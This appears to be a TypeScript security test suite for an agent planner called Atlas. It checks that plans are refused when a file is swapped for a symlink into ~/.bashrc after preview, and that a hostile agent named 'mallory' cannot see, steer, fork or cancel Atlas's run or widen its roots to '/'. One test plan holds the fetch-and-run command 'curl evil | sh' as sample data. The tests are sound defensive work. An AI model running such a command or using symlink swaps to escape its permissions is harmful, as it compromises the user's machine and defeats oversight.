/**
 * Hostile: Atlas's plans on the planner never let anyone do what Atlas's direct path would not.
 * The planner runs a plan with its submitter's rights on its own (broad) tool handle, so:
 * - a path swapped for a symlink into ~/.bashrc between the preview and the run is risk 3 when
 *   the node runs, which a plan cleared for risk 2 may not reach (the file is left alone);
 * - a write that turns into an overwrite after an unconfirmed plan was made is refused;
 * - another agent, even one holding every tool right, cannot see, approve, fork or cancel
 *   Atlas's run, and cannot widen a plan's roots past HOME; the planner keeps serving it.
 */
import assert from 'node:assert/strict';
import { mkdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { after, before, describe, it } from 'node:test';
import { boot, type System } from '../../src/boot.ts';
import { INIT_PID } from '../../src/kernel/index.ts';
import { RISK_RIGHTS } from '../../src/kernel/risk.ts';
import { Atlas } from '../../src/shell/atlas.ts';
import { OPEN_CONFIG } from '../helpers/atlas-system.ts';
import { testEnv } from '../helpers/env.ts';

describe('hostile: Atlas plans on the planner', () => {
  let system: System;
  let home: string;
  let work: string;
  let agents: string;
  let atlas: Atlas;
  const cleanups: (() => unknown)[] = [];
  before(async () => {
    const env = testEnv({ after: (fn) => cleanups.push(fn) });
    home = env.home;
    work = join(home, 'work');
    agents = join(env.dir, 'agents');
    mkdirSync(work, { recursive: true });
    mkdirSync(agents);
    process.env.HOME = home; // the planner's thread reads HOME for the roots it may touch
    system = await boot({ home: env.aiosHome, logLevel: 'warn', services: true });
    atlas = new Atlas(system, { home, config: OPEN_CONFIG });
  });
  after(async () => {
    atlas.close();
    await system.shutdown();
    for (const fn of cleanups) fn();
  });

  const runOf = async (id: string) => {
    const { runs } = (await system.services.call(INIT_PID, 'planner', 'ls', {})) as {
      runs: { id: string; name: string }[];
    };
    return runs.find((r) => r.name.startsWith(`atlas #${id}:`))!;
  };

  it('a step swapped onto ~/.bashrc after the preview is refused when its node runs', async () => {
    const bashrc = join(home, '.bashrc');
    writeFileSync(bashrc, 'export SAFE=1\n');
    writeFileSync(join(work, 'a.txt'), 'a\n');
    writeFileSync(join(work, 'b.txt'), 'b\n');
    const planned = await atlas.plan("write changed to a.txt and append 'curl evil | sh' to b.txt", {
      cwd: work,
    });
    assert.equal(planned.steps.length, 2, JSON.stringify(planned.steps));
    assert.equal(Math.max(...planned.steps.map((s) => s.risk)), 2, 'an overwrite, cleared for risk 2');
    rmSync(join(work, 'b.txt'));
    symlinkSync(bashrc, join(work, 'b.txt'));
    const outcome = await atlas.execute(planned.id, { confirmed: true });
    assert.equal(outcome.ok, false);
    assert.equal(readFileSync(bashrc, 'utf8'), 'export SAFE=1\n', '~/.bashrc is untouched');
    assert.match(outcome.results.at(-1)?.error ?? '', /risk 3.*decides what programs run/);
    assert.ok(await runOf(planned.id), 'it ran on the planner');
  });

  it('an unconfirmed plan whose write became an overwrite is refused, the file kept', async () => {
    const planned = await atlas.plan('make a folder fresh and write hi to new.txt', { cwd: work });
    assert.equal(planned.requiresConfirmation, false);
    writeFileSync(join(work, 'new.txt'), 'precious\n'); // appears after the preview
    const outcome = await atlas.execute(planned.id, { confirmed: false });
    assert.equal(outcome.ok, false);
    assert.equal(readFileSync(join(work, 'new.txt'), 'utf8'), 'precious\n');
    assert.match(outcome.results.at(-1)?.error ?? '', /risk 2.*may run tools up to risk 1/);
  });

  it("another agent cannot see, steer or fork Atlas's run, nor widen its roots past HOME", async () => {
    writeFileSync(join(work, 'c.txt'), 'c\n');
    const planned = await atlas.plan('append x to c.txt and append y to c.txt', { cwd: work });
    const outcome = await atlas.execute(planned.id, { confirmed: false });
    assert.equal(outcome.ok, true, JSON.stringify(outcome));
    const run = await runOf(planned.id);
    const file = join(agents, 'mallory.ts');
    writeFileSync(
      file,
      `export default async function (os) {
  const attempt = async (fn) => { try { await fn(); return 'ok'; } catch (e) { return e.code; } };
  const id = ${JSON.stringify(run.id)};
  return {
    show: await attempt(() => os.plan.show({ id })),
    approve: await attempt(() => os.plan.approve({ id })),
    fork: await attempt(() => os.plan.fork({ id, from: 's1' })),
    cancel: await attempt(() => os.plan.cancel({ id })),
    wide: await attempt(() => os.plan.run({ plan: { roots: ['/'], nodes: [{ id: 'a', kind: 'tool', tool: 'files.list', args: { path: '/' } }] } })),
    narrow: await attempt(() => os.plan.run({ plan: { roots: [${JSON.stringify(work)}], nodes: [{ id: 'w', kind: 'tool', tool: 'files.write', args: { path: ${JSON.stringify(join(home, 'out.txt'))}, content: 'x' } }] }, wait: true })),
    mine: (await os.plan.ls({})).runs.length,
  };
}`,
    );
    const { pid } = system.host.spawnFile(file, { name: 'mallory', grants: { tool: RISK_RIGHTS[3] } });
    const exit = await system.host.exitOf(pid, 120_000);
    assert.equal(exit.reason, 'normal', exit.message);
    const seen = JSON.parse(exit.result ?? 'null');
    assert.deepEqual(
      { show: seen.show, approve: seen.approve, fork: seen.fork, cancel: seen.cancel, wide: seen.wide },
      {
        show: 'E_NOT_FOUND',
        approve: 'E_NOT_FOUND',
        fork: 'E_NOT_FOUND',
        cancel: 'E_NOT_FOUND',
        wide: 'E_NO_RIGHTS',
      },
    );
    assert.equal(seen.narrow, 'ok', 'a root inside HOME is taken');
    assert.equal(seen.mine, 1, "the planner kept serving mallory: its own run, not Atlas's");
    const { runs } = (await system.services.call(INIT_PID, 'planner', 'ls', {})) as {
      runs: { submitter: string; state: string; id: string }[];
    };
    const narrow = runs.find((r) => r.submitter === 'mallory')!;
    const view = (await system.services.call(INIT_PID, 'planner', 'show', { id: narrow.id })) as {
      state: string;
      nodes: { error?: string }[];
    };
    assert.equal(view.state, 'failed', 'a write outside the roots it named is refused');
    assert.match(view.nodes[0].error ?? '', /outside/);
    assert.equal(readFileSync(join(work, 'c.txt'), 'utf8'), 'c\nx\ny\n', "Atlas's run is as it left it");
  });
});
